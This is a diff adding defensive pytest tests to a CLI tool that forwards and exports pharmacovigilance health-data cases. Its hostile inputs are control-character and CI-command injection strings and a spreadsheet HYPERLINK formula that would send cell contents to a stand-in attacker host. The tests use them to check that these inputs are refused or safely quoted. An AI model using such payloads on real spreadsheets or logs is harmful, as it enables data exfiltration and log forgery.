@@ -342,3 +342,71 @@ def test_marked_evidence_is_escaped_whatever_the_text_holds() -> None:
     text = "line one\n::set-output name=x::y \x1b[31mred\x1b[0m my mom got a rash"
     shown = marked(text, [{"element": "patient", "start": text.index("my mom"), "end": text.index("my mom") + 6}])
     assert "\x1b" not in shown and "\\x1b[31m" in shown and "[my mom](patient)" in shown
+
+
+@pytest.mark.parametrize("ref", ["PV\x1b[2J-1", "PV-1\nforged line", "PV\u202e1-VP", "PV\x00", "\t", " " * 3])
+def test_a_case_reference_with_control_characters_is_refused_and_nothing_recorded(seeded: tuple[Repo, str],
+                                                                                   ref: str) -> None:
+    repo, spec = seeded
+    code, out, err = cli(repo, "--ledger", spec, "inbox", "forward", "S-000001", "--ref", ref)
+    assert code == 2 and "--ref must be" in err and "\x1b" not in out + err, (code, err)
+    code, out, _ = cli(repo, "--ledger", spec, "history", "-f", "json")
+    assert "safety-forwarded" not in [e["action"] for e in json.loads(out)["events"]]
+
+
+def test_a_case_reference_that_reads_as_a_formula_is_kept_as_given_and_never_runs_in_a_spreadsheet(
+        seeded: tuple[Repo, str], tmp_path: Path) -> None:
+    repo, spec = seeded
+    ref = '=HYPERLINK("http://evil.example/?"&A1,"PV-1")'
+    code, out, err = cli(repo, "--ledger", spec, "inbox", "forward", "S-000001", "--ref", ref)
+    assert code == 0, err
+    code, out, _ = cli(repo, "--ledger", spec, "inbox", "--all", "-f", "json")
+    assert [i["pv_ref"] for i in json.loads(out)["items"] if i["id"] == "S-000001"] == [ref]  # kept verbatim
+    code, out, _ = cli(repo, "--ledger", spec, "history", "-f", "csv")
+    for row in csv.reader(io.StringIO(out, newline="")):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@")), cell  # every cell that could run is quoted
+    target = tmp_path / "pv.csv"
+    code, _, err = cli(repo, "--ledger", spec, "inbox", "export", "--all", "-o", str(target))
+    assert code == 0, err
+    for row in csv.reader(io.StringIO(target.read_text(encoding="utf-8"), newline="")):
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
+
+
+def test_an_export_to_a_missing_directory_a_directory_or_a_full_disk_fails_cleanly_and_is_not_recorded(
+        seeded: tuple[Repo, str], tmp_path: Path) -> None:
+    repo, spec = seeded
+    missing = tmp_path / "no-such-dir" / "pv.csv"
+    for target, said in ((missing, "does not exist"), (tmp_path, "is a directory"),
+                         (Path("/dev/full"), "not a regular file")):
+        code, out, err = cli(repo, "--ledger", spec, "inbox", "export", "-o", str(target))
+        assert code == 2 and said in err and "nothing was exported" in err and "Traceback" not in err, (target, err)
+        no_canary(out + err)
+    assert not missing.parent.exists()  # a typo does not leave a new folder of health data behind
+    code, out, _ = cli(repo, "--ledger", spec, "history", "-f", "json")
+    assert "safety-exported" not in [e["action"] for e in json.loads(out)["events"]]
+
+
+def test_an_export_that_runs_out_of_space_leaves_no_partial_file(tmp_path: Path) -> None:
+    """A disk that fills up mid-write (a file-size limit stands in for it): a clear error, and neither the
+    export nor a part of it is left behind, nor is an older export at that path damaged."""
+    import subprocess
+    import sys
+
+    target = tmp_path / "pv.csv"
+    target.write_text("the previous export\n")
+    script = (
+        "import resource, signal, sys\n"
+        "from pathlib import Path\n"
+        "from socialpub.inboxview import write_private\n"
+        "from socialpub.errors import SocialpubError\n"
+        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
+        "resource.setrlimit(resource.RLIMIT_FSIZE, (4096, resource.getrlimit(resource.RLIMIT_FSIZE)[1]))\n"
+        "try:\n"
+        "    write_private(Path(sys.argv[1]), 'CANARY-TEXT ' * 10000)\n"
+        "except SocialpubError as error:\n"
+        "    print(error.message)\n"
+    )
+    done = subprocess.run([sys.executable, "-c", script, str(target)], capture_output=True, text=True, timeout=60)
+    assert "nothing was exported" in done.stdout and "File too large" in done.stdout, done
+    assert target.read_text() == "the previous export\n" and [p.name for p in tmp_path.iterdir()] == ["pv.csv"]
